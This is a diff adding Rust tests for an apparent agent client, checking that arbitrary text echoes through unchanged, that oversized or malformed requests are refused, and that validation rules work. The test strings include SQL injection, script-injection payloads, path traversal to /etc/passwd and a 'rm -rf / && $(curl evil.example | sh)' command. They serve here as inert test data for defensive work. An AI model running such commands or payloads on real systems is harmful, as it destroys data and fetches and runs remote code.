@@ -206,3 +206,101 @@ fn a_call_is_explained_without_a_secret_and_breakers_are_told_of_and_closed() {
     good(&client, "http.request", &json!({ "path": path }));
     assert_eq!(bad(&client, "kei.explain", &json!({ "limit": 0 }))["details"]["field"], "limit");
 }
+
+#[test]
+fn honest_text_of_any_kind_passes_through_unchanged() {
+    let platform = Platform::start();
+    let runtime = runtime();
+    let client = platform.client(&runtime);
+    let texts = [
+        "SELECT name FROM users WHERE id = 1; DROP TABLE users; -- ' OR '1'='1",
+        "<script>alert('x')</script> <img src=x onerror=alert(1)> &lt;b&gt; {{template}} ${variable}",
+        "rm -rf / && $(curl evil.example | sh); `id` > /dev/null 2>&1 || exit 1; %s %n \\n",
+        "Der Löschbefehl »DELETE« wählt – wie im Handbuch erklärt – aus der Union aller Tabellen; Straße, Maß, Übergröße.",
+        "../../etc/passwd und C:\\Windows\\System32, ..%2f..%2f, javascript:alert(1), data:text/html,<b>",
+        "a\ttab, a line\nand another\r\n, \u{1F600} \u{202E}right to left\u{202C}, \u{FEFF}mark, nul as words: \\u0000",
+        "env:HOME file:/etc/passwd exec:true vault:secret/a#b changeme <TOKEN> your-api-token",
+    ];
+    for text in texts {
+        let params = json!({ "text": text, text: [text, { "deeper": text }] });
+        assert_eq!(good(&client, "rpc.call", &json!({ "method": "echo", "params": params })), params, "{text}");
+        let sent = json!({ "method": "POST", "path": "/api/v1/rpc/echo", "body": { "text": text } });
+        assert_eq!(good(&client, "http.request", &sent)["body"]["text"], text);
+        let validated = good(&client, "kei.validate", &json!({ "value": text, "rule": "text" }));
+        assert_eq!(validated, json!({ "valid": true, "problems": [] }), "{text}");
+    }
+}
+
+#[test]
+fn what_is_out_of_bounds_is_refused_by_every_operation_before_anything_is_sent() {
+    let platform = Platform::start();
+    let runtime = runtime();
+    let limits = json!({ "max_depth": 8, "max_text_bytes": 100, "max_number_chars": 20, "max_request_bytes": 1000 });
+    let client = platform.client_with(&runtime, &json!({ "limits": limits }));
+    let deep = format!("{}1{}", "[".repeat(9), "]".repeat(9));
+    let cases = [
+        (r#"{"method":"echo","params":"x\u0000"}"#.to_owned(), "KEI_E_REQUEST", "`params` holds a control character"),
+        (r#"{"method":"echo","params":"\ud800"}"#.to_owned(), "KEI_E_REQUEST", "`params` holds half a character"),
+        (format!(r#"{{"method":"echo","params":"{}"}}"#, "x".repeat(101)), "KEI_E_REQUEST", "limits.max_text_bytes"),
+        (format!(r#"{{"method":"echo","params":{}}}"#, "1".repeat(21)), "KEI_E_REQUEST", "limits.max_number_chars"),
+        (r#"{"method":"echo","params":1e400}"#.to_owned(), "KEI_E_REQUEST", "is too large for a number"),
+        (format!(r#"{{"method":"echo","params":{deep}}}"#), "KEI_E_JSON", "more than 8 levels deep"),
+        (
+            format!(r#"{{"method":"echo","params":"{}"}}"#, " ".repeat(1000)),
+            "KEI_E_REQUEST_TOO_LARGE",
+            "limits.max_request_bytes",
+        ),
+    ];
+    let names: Vec<&str> = kei_agent::operations::all().map(|operation| operation.name).collect();
+    for (request, name, why) in &cases {
+        for operation in &names {
+            if matches!(
+                kei_agent::operations::find(operation).unwrap().run,
+                kei_agent::operation::Run::Subscription { .. }
+            ) {
+                continue;
+            }
+            let error = client.call(operation, request.as_bytes(), "").unwrap_err();
+            assert_eq!(error.code.name(), *name, "{operation}: {error}");
+            assert!(error.message.contains(why), "{operation}: {error}");
+        }
+    }
+    let error = client.call("rpc.call", b"{\"method\":\"echo\",\"params\":\"\xff\"}", "").unwrap_err();
+    assert_eq!(error.code.name(), "KEI_E_UTF8");
+    for request in
+        [json!({ "path": "/a/../b" }), json!({ "url": "file:///etc/passwd" }), json!({ "url": "javascript:x" })]
+    {
+        bad(&client, "http.request", &request);
+    }
+    assert!(platform.requests("/api/v1/rpc/echo").is_empty());
+    let lenient = platform.client_with(&runtime, &json!({ "limits": { "control_characters": true } }));
+    let text = json!({ "text": "\u{0}\u{1b}[31m" });
+    assert_eq!(good(&lenient, "rpc.call", &json!({ "method": "echo", "params": text })), text);
+}
+
+#[test]
+fn a_value_is_checked_against_a_rule_of_form() {
+    let platform = Platform::start();
+    let runtime = runtime();
+    let client = platform.client(&runtime);
+    for (request, problem) in [
+        (json!({ "rule": "line", "value": "one line" }), ""),
+        (json!({ "rule": "line", "value": "two\nlines" }), "must be one line"),
+        (json!({ "rule": "name", "value": "a/b" }), "must be a plain name"),
+        (json!({ "rule": "path", "value": "a/%2e%2e/b" }), "must stay below"),
+        (json!({ "rule": "url", "value": "javascript:alert(1)" }), "begins with https:, http:"),
+        (json!({ "rule": "url", "value": "wss://a.example", "schemes": ["wss"] }), ""),
+        (json!({ "rule": "integer", "value": 1.5 }), "must be a whole number"),
+        (json!({ "rule": "number", "value": 7, "maximum": 5 }), "must be at most 5"),
+        (json!({ "rule": "text", "value": "äöü", "max_chars": 3, "max_bytes": 6 }), ""),
+        (json!({ "rule": "text", "value": "äöü", "max_bytes": 5 }), "has 6 bytes, more than 5"),
+        (json!({ "rule": "text", "value": 5 }), "must be a text"),
+        (json!({ "rule": "json", "value": [[[1]]], "max_depth": 2 }), "more than 2 levels deep"),
+    ] {
+        let answer = good(&client, "kei.validate", &request);
+        assert_eq!(answer["valid"], problem.is_empty(), "{request}: {answer}");
+        assert!(answer["problems"].to_string().contains(problem), "{request}: {answer}");
+    }
+    let error = bad(&client, "kei.validate", &json!({ "rule": "pth", "value": "" }));
+    assert!(error["message"].as_str().unwrap().contains("did you mean `path`?"), "{error}");
+}
